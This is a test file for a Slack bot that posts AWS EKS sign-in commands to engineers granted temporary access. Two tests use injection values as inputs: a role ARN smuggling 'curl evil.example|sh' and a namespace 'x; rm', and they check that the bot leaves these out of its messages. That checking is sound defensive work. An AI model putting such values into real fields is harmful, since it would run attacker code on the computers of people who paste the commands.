import { describe, expect, test } from "vitest";
import type { AccessCheck } from "../../../src/access/policy/cluster.ts";
import { preformatted } from "../../../src/slack/show/mrkdwn.ts";
import { milestoneOf } from "../../../src/slack/show/requester-message.ts";
import { signInMessage } from "../../../src/slack/show/sign-in-message.ts";
import { aCluster, aLevel } from "../../builders/a-cluster.ts";
import { aLeasedRequest, aProof, aRequest, engineerArn } from "../../builders/a-request.ts";

describe("how to sign in", () => {
  const signIn = (principal: string, verify: AccessCheck[] = []) =>
    signInMessage(aRequest({ principal }), aCluster({ levels: [aLevel({ verify })] })).text;

  test("is two lines to copy, and whose credentials they need", () => {
    expect(signIn(engineerArn)).toBe(
      [
        "Sign in with the credentials of `arn:aws:iam::111122223333:user/engineer`",
        "```aws eks update-kubeconfig --region eu-central-1 --name staging-eks --alias staging",
        "kubectl get pods```",
      ].join("\n"),
    );
  });

  test("is a block of code of its own in the message, so that what people copy is exact", () => {
    const milestone = milestoneOf(aLeasedRequest({ state: "active" }), aCluster());

    expect(milestone?.message.blocks).toContainEqual(
      preformatted(
        "aws eks update-kubeconfig --region eu-central-1 --name staging-eks --alias staging\nkubectl get pods",
      ),
    );
    expect(JSON.stringify(milestone?.message.blocks)).not.toContain("```");
  });

  test("says how to find the ARN of a role whose path aws-auth does not tell, and prints none that may be wrong", () => {
    const text = signIn("arn:aws:iam::111122223333:role/developers");

    expect(text).toMatch(
      /No profile for this role\? Add `--role-arn` and what `aws iam get-role --role-name developers --query Role\.Arn --output text` prints to the first line\.$/,
    );
    expect(text).not.toContain("--role-arn arn:");
  });

  test("says the path that the access entry has", () => {
    const principal = "arn:aws:iam::111122223333:role/developers";
    const entryArn = "arn:aws:iam::111122223333:role/team/blue/developers";
    const request = aLeasedRequest({ state: "active", proof: aProof({ entryArn }) }, { principal });

    const text = signInMessage(request, aCluster()).text;

    expect(text).toContain(`Add \`--role-arn ${entryArn}\` to the first line.`);
  });

  test("and no path that a shell would carry out", () => {
    const principal = "arn:aws:iam::111122223333:role/developers";
    const entryArn = "arn:aws:iam::111122223333:role/x;curl evil.example|sh;/developers";
    const request = aLeasedRequest({ state: "active", proof: aProof({ entryArn }) }, { principal });

    const { text } = signInMessage(request, aCluster());

    expect(text).not.toContain("curl");
    expect(text).toContain("`aws iam get-role --role-name developers --query Role.Arn --output text`");
  });

  test.each([
    ["arn:aws:iam::111122223333:role/team/blue/developers", "/team/blue/"],
    ["arn:aws:iam::111122223333:role/team/dev*", "/team/"],
    ["arn:aws:iam::111122223333:role/developers", "/"],
  ])("says it with the path that the worker needs to sign in as the role: %s", (role, path) => {
    const principal = "arn:aws:iam::111122223333:role/developers";
    const cluster = aCluster({ signIn: { roles: [role] } });

    const text = signInMessage(aRequest({ principal }), cluster).text;

    expect(text).toContain(`Add \`--role-arn arn:aws:iam::111122223333:role${path}developers\` to the first line.`);
  });

  test("names the profile for a role of IAM Identity Center, which no one can assume, before what to paste", () => {
    const text = signIn("arn:aws:iam::111122223333:role/AWSReservedSSO_Developer_0123456789abcdef");

    expect(text).toMatch(/^Set `AWS_PROFILE` to your profile of the permission set `Developer`\. Then paste:\n/);
    expect(text).toContain('aws sso login --profile "$AWS_PROFILE"\naws eks update-kubeconfig');
    expect(text).not.toContain("--role-arn");
  });

  test("looks for pods where the level may list them", () => {
    const check = { verb: "list", resource: "pods", group: "", namespace: "shop" };

    expect(signIn(engineerArn, [check])).toContain("kubectl get pods --namespace shop```");
    expect(signIn(engineerArn, [{ ...check, namespace: "x; rm" }])).toContain("kubectl get pods```");
  });
});
